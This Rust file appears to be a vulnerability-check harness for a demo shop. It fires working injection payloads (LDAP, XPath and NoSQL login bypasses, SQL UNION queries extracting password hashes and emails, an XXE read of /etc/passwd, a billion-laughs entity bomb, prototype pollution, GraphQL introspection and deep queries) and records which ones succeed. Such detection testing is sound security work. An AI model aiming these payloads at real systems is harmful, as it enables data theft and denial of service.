//! Queries in other languages than people's own.

use reqwest::Method;
use serde_json::json;

use super::listener::CANARY;
use super::listener::Listener;
use crate::demo::client::Answer;
use crate::demo::client::Shop;
use crate::demo::client::encoded;

pub(super) async fn shows(id: &str, shop: &mut Shop) -> Option<bool> {
    Some(match id {
        "ldap-staff-name" => staff(shop).await,
        "xpath-dealer-login" => dealer(shop).await,
        "nosql-club-form" => club_by_form(shop).await,
        "nosql-club-json" => club_by_json(shop).await,
        "sqli-second-order-brand" => stored_brand(shop).await,
        "sqli-currency-cookie" => currency(shop).await,
        "sqli-partner-xml" => partner_stock(shop).await,
        "xxe-partner-feed" => feed(shop).await,
        "prototype-pollution-settings" => settings(shop).await,
        "graphql-introspection" => introspection(shop).await,
        "graphql-field-authorisation" => customers(shop).await,
        "graphql-unlimited" => deep_query(shop).await,
        _ => return None,
    })
}

async fn staff(shop: &mut Shop) -> bool {
    let plain = shop.get("/contact/staff?name=ha").await;
    assert!(plain.body.contains("Hanna Holt") && !plain.body.contains("Piet"));
    assert!(
        !shop.get("/contact/staff?name=edgar").await.body.contains("Edgar Ellis"),
        "not for visitors"
    );
    let attack = shop.get(&format!("/contact/staff?name={}", encoded("*))(|(cn=*"))).await;
    let shown = attack.body.contains("Edgar Ellis");
    let broken = shop.get(&format!("/contact/staff?name={}", encoded("a)("))).await;
    assert_eq!(broken.body.contains("Bad search filter"), shown);
    shown
}

async fn dealer(shop: &mut Shop) -> bool {
    let mut log_in = async |login: &str, password: &str| {
        let fields = [("login", login), ("password", password)];
        shop.submit("/partners/dealers", "/partners/dealers", &fields).await.body
    };
    assert!(log_in("harbourlight", "Beacon-rope-77").await.contains("Welcome, Harbour Light"));
    assert!(log_in("harbourlight", "wrong").await.contains("no such dealer"));
    let shown = log_in("' or 1=1 or ''='", "x").await.contains("Welcome, ");
    assert_eq!(log_in("'", "x").await.contains("XPathExpressionException"), shown);
    shown
}

async fn club_by_form(shop: &mut Shop) -> bool {
    let right = [("card", "FF-1001"), ("pin", "2580")];
    assert_eq!(shop.submit("/club", "/club/login", &right).await.status, 303);
    assert!(shop.get("/club").await.body.contains("Welcome, Alice Amber"));
    let mut other = shop.visitor();
    let wrong = [("card", "FF-1003"), ("pin", "0000")];
    assert_eq!(other.submit("/club", "/club/login", &wrong).await.status, 401);
    assert_eq!(other.submit("/club", "/club/login", &[("card", "FF-1003")]).await.status, 401);
    let attack = [("card", "FF-1003"), ("pin[$ne]", "0000")];
    let status = other.submit("/club", "/club/login", &attack).await.status;
    assert_eq!(other.get("/club").await.body.contains("Clara Cole"), status == 303);
    status == 303
}

async fn club_by_json(shop: &mut Shop) -> bool {
    let mut ask = async |pin: serde_json::Value| {
        let body = json!({ "card": "FF-1003", "pin": pin });
        shop.json(Method::POST, "/api/club/login", &body).await
    };
    assert_eq!(ask(json!("4402")).await.json()["points"], 980);
    assert_eq!(ask(json!("0000")).await.status, 401);
    let any = ask(json!({ "$ne": null })).await.status == 200;
    assert_eq!(ask(json!({ "$regex": "^44" })).await.status == 200, any);
    assert_eq!(ask(json!({ "$canary": 1 })).await.body.contains("unknown operator"), any);
    any
}

async fn stored_brand(shop: &mut Shop) -> bool {
    let mut ask = async |brand: &str| {
        let sent = shop.submit("/news/alerts", "/news/alerts", &[("brand", brand)]).await;
        assert_eq!((sent.status, sent.header("location")), (303, "/news/alerts/matches"));
        shop.get("/news/alerts/matches").await
    };
    assert!(ask("Ottery").await.body.matches("<li>").count() >= 10);
    assert!(!ask("Nobody").await.body.contains("<li>"));
    let attack = ask("x' UNION SELECT password_hash FROM users --").await;
    let shown = attack.body.matches("<li>").count() == 3;
    assert_eq!(ask("it's").await.status == 500, shown);
    shown
}

async fn currency(shop: &mut Shop) -> bool {
    let set = shop.get("/news/currency?code=USD").await;
    assert!(set.header("set-cookie").starts_with("currency=USD;"));
    let mut ask = async |value: &str| {
        let cookie = format!("currency={}", value.replace(' ', "%20"));
        shop.send(Method::GET, "/news/prices", &[("cookie", &cookie)], "").await.body
    };
    assert!(ask("USD").await.contains("In US dollar (USD), at 1.08"));
    assert!(ask("XXX'").await.contains("In Euro (EUR)"), "errors are hidden");
    ask("x' UNION SELECT name, email, '2' FROM users WHERE id = 1 -- ").await.contains("alice@shop")
}

async fn xml(shop: &mut Shop, path: &str, body: &str) -> Answer {
    shop.send(Method::POST, path, &[("content-type", "application/xml")], body).await
}

async fn partner_stock(shop: &mut Shop) -> bool {
    let path = "/api/partner/stock";
    let plain = xml(shop, path, "<stock><sku>GAR-1002</sku></stock>").await;
    assert!(plain.body.contains("<pieces>2</pieces>"), "{}", plain.body);
    let unknown = xml(shop, path, "<stock><sku>GAR-0000</sku></stock>").await;
    assert!(unknown.body.contains("<pieces>0</pieces>"));
    let attack = "<stock><sku>x' UNION SELECT 4711 -- </sku></stock>";
    let shown = xml(shop, path, attack).await.body.contains("<pieces>4711</pieces>");
    let broken = xml(shop, path, "<stock><sku>GAR-1002'</sku></stock>").await;
    assert_eq!((broken.status == 500, broken.body.contains("SQLSTATE")), (shown, shown));
    shown
}

async fn feed(shop: &mut Shop) -> bool {
    let path = "/api/partner/feed";
    let item =
        |name: &str| format!("<feed><item><name>{name}</name><price>1</price></item></feed>");
    let plain = xml(shop, path, &item("Fjord &amp; kettle")).await;
    assert!(plain.body.contains("<name>Fjord &amp; kettle</name>"), "{}", plain.body);
    let file = "<!DOCTYPE feed [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    let attack = xml(shop, path, &format!("<?xml version=\"1.0\"?>{file}{}", item("&x;"))).await;
    let shown = attack.body.contains("root:x:0:0");
    let inside = Listener::start().await;
    let parameter =
        format!("<!DOCTYPE feed [<!ENTITY % p SYSTEM \"{}\"> %p;]>{}", inside.url, item("a"));
    assert!(!xml(shop, path, &parameter).await.body.contains(CANARY));
    assert_eq!(inside.was_called(), shown);
    let level = |n: usize| {
        let inner = format!("&l{n};").repeat(10);
        format!("<!ENTITY l{} \"{inner}\">", n + 1)
    };
    let laughs = (0..20).map(level).collect::<Vec<_>>().concat();
    let laughs = format!("<!DOCTYPE feed [<!ENTITY l0 \"ha\">{laughs}]>{}", item("&l20;"));
    assert_eq!(xml(shop, path, &laughs).await.status, 400, "the shop survives it");
    shown
}

async fn settings(shop: &mut Shop) -> bool {
    let plain = shop.json(Method::POST, "/api/settings", &json!({ "language": "de" })).await;
    assert_eq!((plain.status, &plain.json()["language"]), (200, &json!("de")));
    let attack = json!({ "notify": { "__proto__": { "canary": "sung", "status": 510 } } });
    assert!(shop.json(Method::POST, "/api/settings", &attack).await.json()["rows"].is_number());
    let later = shop.visitor().get("/api/settings").await;
    assert_eq!(later.status == 510, later.json()["canary"] == "sung");
    later.json()["canary"] == "sung"
}

async fn graphql(shop: &mut Shop, query: &str) -> serde_json::Value {
    shop.json(Method::POST, "/graphql", &json!({ "query": query })).await.json()
}

async fn introspection(shop: &mut Shop) -> bool {
    let plain = graphql(shop, "query Q { p: product(id: 7) { __typename name } }").await;
    assert_eq!(plain["data"]["p"]["__typename"], "Product");
    let wrong = graphql(shop, "{ product(id: 7) { nam } }").await;
    assert!(wrong["errors"][0]["message"].as_str().is_some_and(|text| text.contains("\"nam\"")));
    let query = "{ __schema { queryType { name } types { ...T } } } fragment T on __Type { name fields { name } }";
    let schema = graphql(shop, query).await;
    schema["data"]["__schema"]["types"][0]["name"] == "Query"
}

async fn customers(shop: &mut Shop) -> bool {
    let query = "{ customers { name email note } }";
    let mut office = shop.visitor();
    office.log_in("admin").await;
    assert_eq!(graphql(&mut office, query).await["data"]["customers"][0]["name"], "alice");
    graphql(shop, query).await["data"]["customers"][0]["note"].is_string()
}

async fn deep_query(shop: &mut Shop) -> bool {
    let nested = |levels: usize| {
        let open = "reviews { product { ".repeat(levels);
        format!("{{ product(id: 7) {{ {open}name{} }} }}", " } }".repeat(levels))
    };
    assert!(graphql(shop, &nested(1)).await["data"].is_object());
    let deep = graphql(shop, &nested(4)).await["data"].is_object();
    let aliases: Vec<_> = (0..50).map(|n| format!("a{n}: product(id: 7) {{ name }}")).collect();
    let aliases = aliases.join(" ");
    let aliased = graphql(shop, &format!("{{ {aliases} }}")).await["data"].is_object();
    assert_eq!(deep, aliased);
    deep
}
